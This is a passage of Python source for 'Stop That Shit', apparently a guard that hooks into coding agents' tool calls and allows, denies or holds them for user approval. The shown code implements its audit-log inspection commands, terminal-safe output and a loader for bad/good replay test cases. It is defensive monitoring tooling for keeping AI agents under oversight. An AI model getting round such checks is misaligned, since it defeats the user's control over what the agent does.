_STATUS_RECENT = 5
_TOP_DENIED = 3
_INSPECT_WIDTH = 80
_FAMILY_ORDER = ("I", "H", "S", "T")
# policyOutcome -> column of a count row [checked, allowed, denied, notes].
# require_user_approval is a denial that names the user as the way out.
_OUTCOME_COLUMN = {"allow": 1, "deny_and_explain": 2, "require_user_approval": 2,
                   "report_and_defer": 3}
# policyOutcome -> the word of the terminal's event list (legend in its title).
_OUTCOME_WORD = {"allow": "allow", "deny_and_explain": "deny", "require_user_approval": "ask",
                 "report_and_defer": "note"}


class InspectionError(Exception):
    """A lookup that found nothing or a bad argument: one stderr line, exit 1."""


class _Tally:
    """Counts over the events of one scope (a session, or every session).

    Rows are [checked, allowed, denied, notes].  Built in one pass over a
    stream, so `runtime all` never holds 100,000 events unless --json asks.
    """

    __slots__ = ("row", "responses", "reasons", "families", "labels", "effects", "last")

    def __init__(self) -> None:
        self.row = [0, 0, 0, 0]
        self.responses: Dict[str, int] = {}
        self.reasons: Dict[str, list] = {}    # code -> [family, checked, allowed, denied, notes]
        self.families: Dict[str, List[int]] = {}  # letter or "-" -> row
        self.labels: Dict[str, int] = {}
        self.effects: Dict[str, int] = {}
        self.last = ""  # the greatest occurredAt seen

    def add(self, event: dict, notes: "Annotations") -> None:
        decision = event["decision"]
        column = _OUTCOME_COLUMN.get(decision["policyOutcome"])
        family = decision.get("family")
        family = family if isinstance(family, str) and family else "-"
        row = self.row
        row[0] += 1
        fam = self.families.get(family)
        if fam is None:
            fam = self.families[family] = [0, 0, 0, 0]
        fam[0] += 1
        code = decision["reasonCode"]
        reason = self.reasons.get(code)
        if reason is None:
            reason = self.reasons[code] = [family, 0, 0, 0, 0]
        reason[1] += 1
        if column is not None:
            row[column] += 1
            fam[column] += 1
            reason[column + 1] += 1
        response = decision["responseOutcome"]
        self.responses[response] = self.responses.get(response, 0) + 1
        if notes.labels or notes.host_effects:
            event_id = event["eventId"]
            label = notes.labels.get(event_id)
            if label:
                self.labels[label] = self.labels.get(label, 0) + 1
            effect = notes.host_effects.get(event_id)
            if effect:
                self.effects[effect] = self.effects.get(effect, 0) + 1
        if event["occurredAt"] > self.last:
            self.last = event["occurredAt"]

    def merge(self, other: "_Tally") -> None:
        for i, n in enumerate(other.row):
            self.row[i] += n
        for mine, theirs in ((self.responses, other.responses), (self.labels, other.labels),
                             (self.effects, other.effects)):
            for name, n in theirs.items():
                mine[name] = mine.get(name, 0) + n
        for family, counts in other.families.items():
            row = self.families.setdefault(family, [0, 0, 0, 0])
            for i, n in enumerate(counts):
                row[i] += n
        for code, counts in other.reasons.items():
            row = self.reasons.setdefault(code, [counts[0], 0, 0, 0, 0])
            for i in range(1, 5):
                row[i] += counts[i]
        self.last = max(self.last, other.last)

    def top_denied(self, limit: int = _TOP_DENIED) -> List[Tuple[str, int]]:
        ranked = sorted(((code, r[3]) for code, r in self.reasons.items() if r[3]),
                        key=lambda item: (-item[1], item[0]))
        return ranked[:limit]

    def counts(self) -> Dict[str, int]:
        return dict(zip(("checked", "allowed", "denied", "notes"), self.row))

    def summary(self, damaged: int) -> Dict[str, Any]:
        """The `summary` object of `runtime --json`, plus observed host effects."""
        responses = self.responses
        return {"checkedActions": self.row[0],
                "contextResponses": responses.get("context_returned", 0),
                "permissionDenyResponses": responses.get("permission_deny_returned", 0),
                "executionDenialResponses": responses.get("execution_denial_returned", 0),
                "reasons": {code: r[1] for code, r in sorted(self.reasons.items())},
                "labels": {name: self.labels.get(name, 0) for name in LABELS},
                "damagedRecords": damaged,
                "hostEffects": {name: self.effects.get(name, 0) for name in HOST_EFFECTS}}


def _scan(store: Store, keys: List[str], notes: "Annotations", keep_events: bool = False
          ) -> Tuple[Dict[str, _Tally], int, List[dict]]:
    """One pass over the logs of `keys`: a tally per key, the counts of
    damaged lines and unreadable logs, and (only when asked) the events
    themselves in file order."""
    tallies: Dict[str, _Tally] = {}
    kept: List[dict] = []
    counter = {"damaged": 0, "unreadable": 0}
    for key in keys:
        tally = tallies[key] = _Tally()
        try:
            for event in iter_audit(store, key, counter):
                tally.add(event, notes)
                if keep_events:
                    kept.append(event)
        except OSError:
            # One unreadable log (a directory, no permission) must not hide
            # the other 999; it is counted and named in the answer.
            counter["unreadable"] += 1
    return tallies, counter, kept


def _total(tallies: Dict[str, _Tally]) -> _Tally:
    total = _Tally()
    for tally in tallies.values():
        total.merge(tally)
    return total


def _sorted_events(records: List[dict]) -> List[dict]:
    return sorted(records, key=lambda r: r["occurredAt"])  # sorted() is stable


def _host_effect(event: dict, notes: "Annotations") -> str:
    observed = notes.host_effects.get(event["eventId"])
    return observed or str(event["decision"].get("hostEffect") or "unobserved")


# ---- text helpers -----------------------------------------------------------


def _clean(value: Any) -> str:
    """Log and state text shown on a terminal: control characters become `?`,
    so a crafted tool name cannot move the cursor or recolour the screen."""
    text = str(value)
    if text.isprintable():
        return text
    return "".join(c if c.isprintable() else "?" for c in text)


def _fit(text: str) -> str:
    return text if len(text) <= _INSPECT_WIDTH else text[:_INSPECT_WIDTH - 3] + "..."


def _wrap(text: str) -> List[str]:
    """One logical line as terminal lines of at most 80 columns.

    Breaks after a space or after the `|` between files= patterns, so a path
    pattern stays whole unless it alone is wider than a line.  Continuation
    lines are indented, so every line start stays greppable.
    """
    if len(text) <= _INSPECT_WIDTH:
        return [text]
    import re
    lines: List[str] = []
    line = ""
    for piece in re.findall(r"[^ |]+[ |]*|[ |]+", text):  # a word and the breaks after it
        while piece:
            room = _INSPECT_WIDTH - len(line)
            if len(piece.rstrip(" ")) <= room:  # trailing spaces may hang past the edge
                line += piece
                break
            if line.strip():
                lines.append(line.rstrip(" "))
                line = "  "
                continue
            line, piece = line + piece[:room], piece[room:]  # wider than a line: cut it
            lines.append(line)
            line = "  "
    if line.strip():
        lines.append(line.rstrip(" "))
    return lines


def _minute(occurred_at: str) -> str:
    """`2026-01-31T23:59:58.123Z` -> `2026-01-31 23:59` (UTC)."""
    return "%s %s" % (occurred_at[:10], occurred_at[11:16]) if occurred_at else "-"


# ---- status -----------------------------------------------------------------


def _reserved_and_reasons(state: dict) -> Tuple[int, List[str]]:
    delegation = state.get("delegation") or {}
    reserved = sum(r.get("pendingCount", 0) + len(r.get("agentIds", []))
                   for r in (delegation.get("reservations") or {}).values())
    # In the order they were first recorded.
    reasons = list(dict.fromkeys((delegation.get("unresolved") or {}).values()))
    return reserved, reasons


class _StatusView:
    """What both status answers are made of, read once."""

    __slots__ = ("key", "loaded", "reserved", "reasons", "notes", "events", "tally", "damaged",
                 "effect")

    def __init__(self, store: Store, key: str, with_events: bool) -> None:
        self.key = key
        self.loaded = store.load(key)
        self.reserved, self.reasons = _reserved_and_reasons(self.loaded.state)
        self.notes = read_annotations(store)
        self.tally = _Tally()
        self.events: List[dict] = []
        self.damaged = 0
        # The prompt answer needs the log only when some effect was observed;
        # otherwise the answer is "unobserved" without reading it.
        if with_events or self.notes.host_effects:
            tallies, counter, events = _scan(store, [key], self.notes, keep_events=True)
            self.damaged = counter["damaged"]
            self.tally = tallies[key]
            self.events = _sorted_events(events)
        self.effect = _host_effect(self.events[-1], self.notes) if self.events else "unobserved"

    def spec_lines(self) -> List[str]:
        """The status lines, the same in a prompt answer and in the terminal."""
        state = self.loaded.state
        contract = state["contract"]
        fields = contract_fields(contract, self.reserved, bool(self.reasons))
        lines = ["Stop That Shit status",
                 "State: %s / %s" % (control_state(contract), contract.get("mode")),
                 fields,
                 "Authority source: %s" % contract.get("source")]
        error = self.loaded.storage_error
        if error:
            lines.append("%s: %s" % (error.get("code"), error.get("message")))
        error = state.get("directiveError")
        if isinstance(error, dict):
            lines.append("Directive error: %s: %s" % (error.get("code"), error.get("message")))
        if self.reasons:
            lines.append("Unresolved activity: %s. %s"
                         % (", ".join(self.reasons), _UNRESOLVED_ADVICE))
        lines += ["Host effect: %s" % self.effect, "Full counts: see runtime."]
        return lines

    def terminal_lines(self) -> List[str]:
        lines: List[str] = []
        for line in self.spec_lines():
            lines += _wrap(_clean(line))
        tally = self.tally
        lines.append("")
        if not self.events:
            lines.append("Session %s: no checked actions yet." % self.key)
            return lines
        lines.append("Session %s, last activity %s UTC" % (self.key, _minute(tally.last)))
        checked, allowed, denied, notes = tally.row
        lines.append("Checked actions: %d (allowed %d, denied %d, watch notes %d)"
                     % (checked, allowed, denied, notes))
        lines.append("")
        lines += _count_table("By family", [
            ("%s %s" % (f, family_word(f).lower()), tally.families.get(f, [0, 0, 0, 0]))
            for f in _FAMILY_ORDER + tuple(sorted(set(tally.families) - set(_FAMILY_ORDER)
                                                  - {"-"}))
        ] + ([("- none (allowed)", tally.families["-"])] if "-" in tally.families else []))
        lines.append("")
        reasons = sorted(tally.reasons.items(), key=lambda kv: (-kv[1][1], kv[0]))
        lines += _count_table("By reason", [("%s %s" % (r[0], code), r[1:])
                                            for code, r in reasons])
        lines.append("")
        top = tally.top_denied()
        if top:
            lines.append("Top denied reasons (of %d denials):" % denied)
            # A code too long for the line is shortened, never the count.
            pad = min(max(len(code) for code, _ in top), _INSPECT_WIDTH - 12)
            top = [(code if len(code) <= pad else code[:pad - 3] + "...", count)
                   for code, count in top]
            lines += [_fit("  %d. %-*s %6d" % (n, pad, _clean(code), count))
                      for n, (code, count) in enumerate(top, 1)]
        else:
            lines.append("Top denied reasons: none")
        lines.append("")
        lines.append("Last %d events (oldest first, UTC; ask = denied until the user approves):"
                     % min(_STATUS_RECENT, len(self.events)))
        for event in self.events[-_STATUS_RECENT:]:
            lines += _event_lines(event, self.notes)
        return lines

    def json(self) -> Dict[str, Any]:
        state = self.loaded.state
        tally = self.tally
        recent = [dict(e, hostEffect=_host_effect(e, self.notes),
                       label=self.notes.labels.get(e["eventId"]))
                  for e in self.events[-_STATUS_RECENT:]]
        return {"schemaVersion": 1, "sessionKey": self.key,
                "controlState": control_state(state["contract"]),
                "contract": state["contract"], "reservedUpperBound": self.reserved,
                "countUnproven": bool(self.reasons), "unresolved": self.reasons,
                "directiveError": state.get("directiveError"),
                "storageError": self.loaded.storage_error,
                "hostEffect": self.effect,
                "lastActivity": tally.last or None,
                "counts": tally.counts(),
                "byFamily": {f: dict(zip(("checked", "allowed", "denied", "notes"), row))
                             for f, row in sorted(tally.families.items())},
                "byReason": {code: dict(zip(("family", "checked", "allowed", "denied",
                                             "notes"), r))
                             for code, r in sorted(tally.reasons.items())},
                "topDenied": [{"reasonCode": code, "denied": n} for code, n in tally.top_denied()],
                "summary": tally.summary(self.damaged + self.notes.damaged),
                "recentEvents": recent}


def _count_table(title: str, rows: List[Tuple[str, List[int]]]) -> List[str]:
    """Rows of [checked, allowed, denied, notes] under a title; the name column
    shrinks long reason codes so every line fits 80 columns."""
    numbers = "%8s%8s%8s"
    width = max([len(title)] + [len(name) + 2 for name, _ in rows])
    width = min(width, _INSPECT_WIDTH - len(numbers % ("", "", "")) - 1)
    lines = [title.ljust(width) + " " + numbers % ("checked", "denied", "notes")]
    for name, row in rows:
        name = "  " + _clean(name)
        if len(name) > width:
            name = name[:width - 3] + "..."
        lines.append(_fit(name.ljust(width) + " " + numbers % (row[0], row[2], row[3])))
    return lines


def _event_lines(event: dict, notes: "Annotations") -> List[str]:
    """Two lines of metadata for one event: never a path or a command."""
    action, decision = event["action"], event["decision"]
    outcome = decision["policyOutcome"]
    word = _OUTCOME_WORD.get(outcome, outcome)
    family = decision.get("family")
    reason = ("%s/%s" % (family, decision["reasonCode"]) if isinstance(family, str) and family
              else decision["reasonCode"])
    head = "  %s %s  %-5s  " % (event["occurredAt"][:10], event["occurredAt"][11:19], word)
    most = _INSPECT_WIDTH - len(head) - 2 - 16  # leave the tool at least 16 columns
    if len(reason) > most:
        reason = reason[:most - 3] + "..."
    tail = "  " + reason
    tool = "%s (%s)" % (action["toolName"], action["mutability"])
    room = _INSPECT_WIDTH - len(head) - len(tail)
    if len(tool) > room:
        # A long tool name gives way first: the reason is what the user came for.
        tool = tool[:max(room - 3, 0)] + "..." if room > 3 else ""
    first = _fit(_clean(head + tool + tail))
    second = _fit("    %s  host effect: %s" % (event["eventId"], _host_effect(event, notes)))
    return [first, second]


# ---- runtime ----------------------------------------------------------------


def _runtime_text(summary: dict) -> str:
    lines = ["Stop That Shit runtime (host effect not observed)",
             "Checked actions: %d" % summary["checkedActions"],
             "Context responses: %d" % summary["contextResponses"],
             "Permission-deny responses: %d" % summary["permissionDenyResponses"]]
    if summary["executionDenialResponses"]:
        lines.append("Execution-denial responses: %d" % summary["executionDenialResponses"])
    labels = summary["labels"]
    lines.append("Labels: " + "; ".join("%s=%d" % (n, labels[n]) for n in LABELS))
    lines.append("Damaged records ignored: %d" % summary["damagedRecords"])
    if summary.get("unreadableLogs"):
        lines.append("Unreadable logs skipped: %d" % summary["unreadableLogs"])
    effects = summary["hostEffects"]
    if any(effects.values()):
        # Only effects someone confirmed afterwards are counted; the rest stay unobserved.
        lines.append("Observed host effects: blocked=%d; ran=%d"
                     % (effects["observed_blocked"], effects["observed_ran"]))
    return "\n".join(lines)


def _key_ok(key: str) -> bool:
    return key == "unknown" or (len(key) == 24 and all(c in "0123456789abcdef" for c in key))


def _session_keys(store: Store) -> Dict[str, float]:
    """Every session the data dir knows (a state file or a log) -> the mtime of
    its state file, 0.0 when there is none."""
    found: Dict[str, float] = {}
    for sub, suffix in (("runtime", ".jsonl"), ("sessions", ".json")):
        try:
            entries = list(os.scandir(store.path(sub)))
        except (FileNotFoundError, NotADirectoryError):
            continue
        for entry in entries:
            name = entry.name
            key = name[:-len(suffix)]
            if not name.endswith(suffix) or not _key_ok(key):
                continue  # annotations.jsonl, lock dirs, kept damaged files, temp files
            if sub == "runtime":
                found.setdefault(key, 0.0)
                continue
            try:
                found[key] = entry.stat().st_mtime
            except OSError:
                found.setdefault(key, 0.0)
    return found


def _session_rows(store: Store, found: Dict[str, float],
                  tallies: Dict[str, _Tally]) -> List[Dict[str, Any]]:
    """One dict per session for `runtime` (text and --json), oldest activity first."""
    import time
    rows = []
    for key, mtime in found.items():
        tally = tallies.get(key) or _Tally()
        contract, state_word = None, "missing"
        if mtime:
            loaded = store.load(key)
            if loaded.storage_error:
                state_word = "damaged"
            else:
                state_word = "ok"
                contract = {"mode": loaded.state["contract"].get("mode"),
                            "level": loaded.state["contract"].get("level")}
        last = tally.last
        if not last and mtime:
            last = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(mtime))
        row = {"sessionKey": key, "lastActivity": last or None, "state": state_word,
               "contract": contract}
        row.update(tally.counts())
        rows.append(row)
    rows.sort(key=lambda r: (r["lastActivity"] or "", r["sessionKey"]))
    return rows


_SESSION_HEAD = "%-24s %-16s  %-17s%7s%7s%6s"


def _session_table(rows: List[Dict[str, Any]], total: bool) -> List[str]:
    lines = [_SESSION_HEAD % ("SESSION KEY", "LAST ACTIVITY", "CONTRACT", "CHECKED", "DENIED",
                              "NOTES")]
    for row in rows:
        contract = row["contract"]
        if contract is not None:
            shown = "%s/%s" % (contract["mode"], contract["level"])
        else:
            shown = "(damaged state)" if row["state"] == "damaged" else "(no state)"
        lines.append(_fit(_clean(_SESSION_HEAD % (
            row["sessionKey"], _minute(row["lastActivity"] or ""), shown[:17], row["checked"],
            row["denied"], row["notes"]))))
    if total:
        sums = [sum(r[name] for r in rows) for name in ("checked", "denied", "notes")]
        title = "TOTAL (%d session%s)" % (len(rows), "" if len(rows) == 1 else "s")
        lines.append(_fit(_SESSION_HEAD % (title, "", "", *sums)))
    return lines


def _runtime(store: Store, key: Optional[str], keep_events: bool = False, with_rows: bool = True
             ) -> Tuple[Dict[str, Any], List[Dict[str, Any]], List[dict], "Annotations", int]:
    """Summary, session rows, events (when kept) and annotations for one
    session or (key None) every session; each log and state file is read
    once, and the prompt answer (with_rows False) reads no state file."""
    notes = read_annotations(store)
    if key is None:
        found = _session_keys(store)
    else:
        try:
            found = {key: os.stat(store.path("sessions", key + ".json")).st_mtime}
        except OSError:
            found = {key: 0.0}
        if not found[key] and not os.path.exists(store.path("runtime", key + ".jsonl")):
            found = {}
    tallies, counter, events = _scan(store, sorted(found), notes, keep_events)
    summary = _total(tallies).summary(counter["damaged"] + notes.damaged)
    if counter["unreadable"]:
        summary["unreadableLogs"] = counter["unreadable"]
    rows = _session_rows(store, found, tallies) if with_rows else []
    return summary, rows, events, notes, len(found)


# ---- explain and label ------------------------------------------------------


def find_event(store: Store, event_id: str) -> Optional[dict]:
    """The event with this exact id in any session's log (ids are compared lower-cased).

    Each log is searched as bytes first and only a line holding the id is
    parsed: sts writes ids unescaped, so a log without those bytes cannot hold
    the event, and `explain` stays a fast scan even over 100,000 lines.
    """
    event_id = event_id.lower()
    if not event_id_ok(event_id):
        return None
    needle = event_id.encode("ascii")
    for key in audit_log_keys(store):
        path = store.path("runtime", key + ".jsonl")
        try:
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        at = data.find(needle)
        while at >= 0:
            start = data.rfind(b"\n", 0, at) + 1
            end = data.find(b"\n", at)
            end = len(data) if end < 0 else end
            try:
                record = json.loads(data[start:end].decode("utf-8"))
            except (ValueError, RecursionError):
                record = None
            if runtime_event_ok(record) and record["eventId"] == event_id:
                return record
            at = data.find(needle, end)
    return None


def _explain_text(event: dict, notes: "Annotations") -> str:
    action, decision = event["action"], event["decision"]
    mode = (event.get("contract") or {}).get("mode", "unknown")
    lines = ["Stop That Shit event %s" % event["eventId"],
             "State: %s / %s" % (event["controlState"].upper(), mode),
             "Action: %s (%s); paths=%s" % (action["toolName"], action["mutability"],
                                            action.get("pathCount", 0))]
    sentence = ANALYSIS_REASONS.get(action.get("analysisReason") or "")
    if sentence:
        lines.append("Analysis: %s" % (sentence[:1].lower() + sentence[1:]))
    lines += ["Decision: %s / %s" % (decision["policyOutcome"], decision["reasonCode"]),
              "Response: %s" % decision["responseOutcome"],
              "Host effect: %s" % _host_effect(event, notes),
              "Label: %s" % notes.labels.get(event["eventId"], "unlabeled")]
    return "\n".join(lines)


def record_label(store: Store, event_id: str, label: str) -> dict:
    """Append a label annotation; InspectionError for a bad label or an unknown event."""
    event_id, label = event_id.lower(), label.lower()
    if label not in LABELS:
        raise InspectionError("invalid label %r: use correct, incorrect or inconclusive" % label)
    if not event_id_ok(event_id) or find_event(store, event_id) is None:
        raise InspectionError("Stop That Shit runtime event not found: %s" % event_id)
    record = {"schemaVersion": 1, "annotationId": "ann_" + _uuid4_text(),
              "occurredAt": utc_now_iso(), "eventId": event_id, "label": label}
    store.append_annotation(record)
    return record


# ---- prompt answers ---------------------------------------------------------


def inspection_response(command: Tuple[str, ...], store: Store, key: Optional[str]) -> str:
    """Text answer to an inspection command typed in a prompt, for session `key`.

    Reads without the lock and writes nothing but a label's annotation line.
    """
    name = command[0] if command else ""
    if name == "status":
        return "\n".join(_StatusView(store, key or "unknown", False).spec_lines())
    if name == "runtime":
        scope = command[1] if len(command) > 1 else "this"
        summary = _runtime(store, None if scope == "all" else (key or "unknown"),
                           with_rows=False)[0]
        return _runtime_text(summary)
    if name == "explain" and len(command) > 1:
        event = find_event(store, command[1])
        if event is None:
            return "Stop That Shit runtime event not found: %s" % command[1].lower()
        return _explain_text(event, read_annotations(store))
    if name == "label" and len(command) > 2:
        try:
            record = record_label(store, command[1], command[2])
        except InspectionError as exc:
            return str(exc)
        except OSError as exc:
            return "Stop That Shit label could not be recorded: %s" % type(exc).__name__
        return "Stop That Shit label recorded: %s = %s" % (record["eventId"], record["label"])
    raise ValueError("unknown inspection command: %r" % (command,))


# ---- terminal ---------------------------------------------------------------


_INSPECT_USAGE = ("usage: sts.py status | runtime [all] | explain EVT | label EVT LABEL "
                  "[--session ID] [--all] [--json]")


def _latest_session_key(store: Store) -> Optional[str]:
    """The most recently modified session state, else the most recent runtime log."""
    for sub, suffix in (("sessions", ".json"), ("runtime", ".jsonl")):
        best, best_time = None, -1.0
        try:
            entries = list(os.scandir(store.path(sub)))
        except (FileNotFoundError, NotADirectoryError):
            continue
        for entry in entries:
            key = entry.name[:-len(suffix)]
            if not entry.name.endswith(suffix) or not _key_ok(key):
                continue
            try:
                mtime = entry.stat().st_mtime
            except OSError:
                continue
            if mtime > best_time:
                best, best_time = key, mtime
        if best is not None:
            return best
    return None


def _inspect_parse(args: List[str]) -> Optional[Tuple[str, List[str], Optional[str], bool, bool]]:
    command, positional, session, all_logs, as_json = None, [], None, False, False
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--session" or arg.startswith("--session="):
            if "=" in arg:
                session = arg.split("=", 1)[1]
            elif i + 1 < len(args):
                i += 1
                session = args[i]
            else:
                return None
            if not session:
                return None
        elif arg == "--all":
            all_logs = True
        elif arg == "--json":
            as_json = True
        elif arg.startswith("--"):
            return None
        elif command is None:
            command = arg
        else:
            positional.append(arg)
        i += 1
    arity = {"status": (0, 0), "runtime": (0, 1), "explain": (1, 1), "label": (2, 2)}
    if command not in arity or not arity[command][0] <= len(positional) <= arity[command][1]:
        return None
    if command == "runtime" and positional:
        if positional[0].lower() not in ("all", "this"):
            return None
        all_logs = all_logs or positional[0].lower() == "all"
    elif all_logs and command != "runtime":
        return None
    return command, positional, session, all_logs, as_json


def _inspect_json(doc: Dict[str, Any], one_per_line: Tuple[str, ...] = ()) -> None:
    """Indented JSON, except that the lists named in `one_per_line` hold one
    compact item per line: the C encoder writes 100,000 events in a fraction
    of the time the indenting (pure Python) encoder takes, and a line per
    event still reads and greps well."""
    out = sys.stdout
    if not one_per_line:
        out.write(json.dumps(doc, indent=2, ensure_ascii=False) + "\n")
        return
    names = list(doc)
    out.write("{\n")
    for n, name in enumerate(names):
        value = doc[name]
        comma = "," if n < len(names) - 1 else ""
        if name in one_per_line and isinstance(value, list) and value:
            out.write("  %s: [\n" % json.dumps(name))
            encode = json.JSONEncoder(ensure_ascii=False).encode
            out.write(",\n".join("    " + encode(item) for item in value))
            out.write("\n  ]%s\n" % comma)
        else:
            text = json.dumps(value, indent=2, ensure_ascii=False).replace("\n", "\n  ")
            out.write("  %s: %s%s\n" % (json.dumps(name), text, comma))
    out.write("}\n")


def _no_session(store: Store) -> InspectionError:
    return InspectionError("sts: no session in %s yet (no hook has written there; "
                           "check STS_HOME)" % store.root)


def cmd_inspect(args: List[str], store: Store) -> int:
    """status|runtime|explain|label from the terminal, with --session ID, --all, --json.

    `args` starts with the command word (main passes sys.argv[1:]).  Exit 0
    on success, 1 for not found / bad label / failure (one stderr line), 2 for
    a usage error.
    """
    parsed = _inspect_parse(args)
    if parsed is None:
        sys.stderr.write(_INSPECT_USAGE + "\n")
        return 2
    command, positional, session, all_logs, as_json = parsed
    try:
        key = session_key(session) if session is not None else None
        if command in ("status", "runtime") and key is None and not all_logs:
            key = _latest_session_key(store)
            if key is None:
                raise _no_session(store)
        if command == "status":
            view = _StatusView(store, key, with_events=True)
            if as_json:
                _inspect_json(view.json())
            else:
                sys.stdout.write("\n".join(view.terminal_lines()) + "\n")
            return 0
        if command == "runtime":
            summary, rows, events, notes, count = _runtime(store, None if all_logs else key,
                                                           keep_events=as_json)
            if as_json:
                events = _sorted_events(events)
                for e in events:  # freshly parsed and ours: no copy of 100,000 dicts
                    e["label"] = notes.labels.get(e["eventId"])
                ids = {e["eventId"] for e in events}
                if not summary["executionDenialResponses"]:
                    del summary["executionDenialResponses"]
                _inspect_json({"schemaVersion": 1,
                               "events": events,
                               "summary": summary,
                               "annotations": [a for a in notes.records if a["eventId"] in ids],
                               "sessions": rows},
                              one_per_line=("events", "annotations", "sessions"))
                return 0
            lines = _runtime_text(summary).split("\n")
            lines.append("")
            if not count and not all_logs:
                lines.append("Session %s: no state and no audit log yet." % key)
            elif not count:
                lines.append("Sessions: none in %s yet." % _clean(store.root))
            elif all_logs:
                lines.append("Sessions: %d (oldest activity first; times in UTC)" % count)
                lines += _session_table(rows, total=True)
            else:
                lines += _session_table(rows, total=False)
            sys.stdout.write("\n".join(lines) + "\n")
            return 0
        if command == "explain":
            event = find_event(store, positional[0])
            if event is None:
                raise InspectionError("Stop That Shit runtime event not found: %s"
                                      % positional[0].lower())
            notes = read_annotations(store)
            if as_json:
                _inspect_json({"schemaVersion": 1, "event": event,
                               "annotations": [a for a in notes.records
                                               if a["eventId"] == event["eventId"]]})
            else:
                sys.stdout.write(_explain_text(event, notes) + "\n")
            return 0
        record = record_label(store, positional[0], positional[1])
        if as_json:
            _inspect_json(record)
        else:
            sys.stdout.write("Stop That Shit label recorded: %s = %s\n"
                             % (record["eventId"], record["label"]))
        return 0
    except InspectionError as exc:
        sys.stderr.write("%s\n" % exc)
        return 1
    except Exception as exc:  # the terminal gets one line, never a traceback
        sys.stderr.write("sts failed: %s: %s\n" % (type(exc).__name__, exc))
        return 1


###############################################################################
# Cases
#
# Owns `python3 sts.py cases [DIR]`: replay each Bad/Good case of cases/
# through the real adapter and compare the decision with the expected one.
###############################################################################

# A case file is one JSON object:
#   host     one of CASE_HOSTS; the adapter that receives every event
#   family   I, H, S or T: the failure family the pair demonstrates
#   pair, role, differs   the pair id, "bad" or "good", and the one fact that
#            differs between the two files of the pair (same text in both)
#   story    one line for people
#   events   the host's own payloads, in order; an element may instead be
#            {"send": <payload>, "expect": {...}} to check that event too
#   expect   {"result": deny|context|allow|prompt-error, "code": CODE|null,
#            optional "audit": CODE|null}: the answer to the LAST event
# Strings in payloads may hold {STS_HOME}, {CWD} and {STS_PY}; each case gets
# its own fresh data dir and working dir, so cases never see each other.

CASE_HOSTS = ("codex", "claude", "hermes", "opencode", "pi", "omp", "gemini", "copilot", "qwen")
CASE_FAMILIES = ("I", "H", "S", "T")
CASE_RESULTS = ("deny", "context", "allow", "prompt-error")
CASE_ROLES = ("bad", "good")
_CASE_KEYS = frozenset(("host", "family", "pair", "role", "differs", "story", "events",
                        "expect"))
_EXPECT_KEYS = frozenset(("result", "code", "audit"))
_STEP_KEYS = frozenset(("send", "expect"))
# Hooks after which the host runs a tool: a block there is a deny, on any
# other hook (a prompt) it is a rejected prompt.
_CASE_TOOL_HOOKS = frozenset(("PreToolUse", "pre_tool_call", "tool.execute.before",
                              "tool_call", "BeforeTool", "preToolUse"))


class CaseError(ValueError):
    """A case file that cannot be replayed; the message names the file and field."""


class CaseStep(Record):
    """One host payload of a case, with the answer expected for it, if any."""

    __slots__ = FIELDS = ("payload", "expect")
    DEFAULTS = {"expect": None}
    payload: dict
    expect: Optional[dict]


class Case(Record):
    """A loaded case file; `name` is the file name without .json."""

    __slots__ = FIELDS = ("name", "path", "host", "family", "story", "steps", "expect",
                          "pair", "role", "differs")
    DEFAULTS = {"pair": None, "role": None, "differs": None}
    name: str
    path: str
    host: str
    family: str
    story: str
    steps: List[CaseStep]
    expect: dict
    pair: Optional[str]
    role: Optional[str]
    differs: Optional[str]


class CaseAnswer(Record):
    """What the host got back for one event, reduced to result and reason code."""

    __slots__ = FIELDS = ("result", "code", "text", "audit")
    DEFAULTS = {"text": "", "audit": None}
    result: str
    code: Optional[str]
    text: str
    audit: Optional[str]


class CaseOutcome(Record):
    """The verdict on one case; `problems` says in words what did not match."""

    __slots__ = FIELDS = ("case", "passed", "got", "problems")
    DEFAULTS = {"problems": list}
    case: Case
    passed: bool
    got: str
    problems: List[str]


def _case_expect(value: Any, where: str) -> dict:
    if not isinstance(value, dict):
        raise CaseError("%s: must be an object like {\"result\": \"deny\", \"code\": "
                        "\"MODE_FORBIDS_MUTATION\"}" % where)
    extra = sorted(set(value) - _EXPECT_KEYS)
    if extra:
        raise CaseError("%s: unknown key %r (allowed: result, code, audit)" % (where, extra[0]))
    if value.get("result") not in CASE_RESULTS:
        raise CaseError("%s.result: %r is not one of %s"
                        % (where, value.get("result"), ", ".join(CASE_RESULTS)))
    # The code is required so that an author states "no code" (null) on purpose.
    if "code" not in value:
        raise CaseError("%s.code: missing (use null when the answer carries no code)" % where)
    for key in ("code", "audit"):
        code = value.get(key)
        if code is not None and not (isinstance(code, str) and code.strip()):
            raise CaseError("%s.%s: %r must be a reason code or null" % (where, key, code))
    return dict(value)


def load_case(path: str) -> Case:
    """Read and check one case file; raises CaseError with a message naming the problem."""
    name = os.path.splitext(os.path.basename(path))[0]
    try:
        with open(path, "rb") as fh:
            obj = json.loads(fh.read().decode("utf-8"))
    except (OSError, UnicodeDecodeError, ValueError) as exc:
        raise CaseError("%s: not readable JSON (%s)" % (name, exc))
    if not isinstance(obj, dict):
        raise CaseError("%s: a case is a JSON object, not %s" % (name, type(obj).__name__))
    extra = sorted(set(obj) - _CASE_KEYS)
    if extra:
        raise CaseError("%s: unknown key %r" % (name, extra[0]))
    host = obj.get("host")
    if host not in CASE_HOSTS:
        raise CaseError("%s: host %r is not one of %s" % (name, host, ", ".join(CASE_HOSTS)))
    family = obj.get("family")
    if family not in CASE_FAMILIES:
        raise CaseError("%s: family %r is not one of I, H, S, T" % (name, family))
    story = obj.get("story")
    if not _is_text(story) or "\n" in story:
        raise CaseError("%s: story must be one non-empty line" % name)
    for key in ("pair", "differs"):
        if key in obj and not _is_text(obj[key]):
            raise CaseError("%s: %s must be a non-empty string" % (name, key))
    role = obj.get("role")
    if role is not None and role not in CASE_ROLES:
        raise CaseError("%s: role %r is not bad or good" % (name, role))
    if ("pair" in obj) != ("role" in obj):
        raise CaseError("%s: pair and role go together" % name)
    events = obj.get("events")
    if not isinstance(events, list) or not events:
        raise CaseError("%s: events must be a non-empty list of host payloads" % name)
    steps = []
    for index, event in enumerate(events):
        where = "%s: events[%d]" % (name, index)
        if not isinstance(event, dict):
            raise CaseError("%s: a host payload is a JSON object" % where)
        if "send" in event:
            extra = sorted(set(event) - _STEP_KEYS)
            if extra:
                raise CaseError("%s: unknown key %r next to send" % (where, extra[0]))
            if not isinstance(event["send"], dict):
                raise CaseError("%s.send: a host payload is a JSON object" % where)
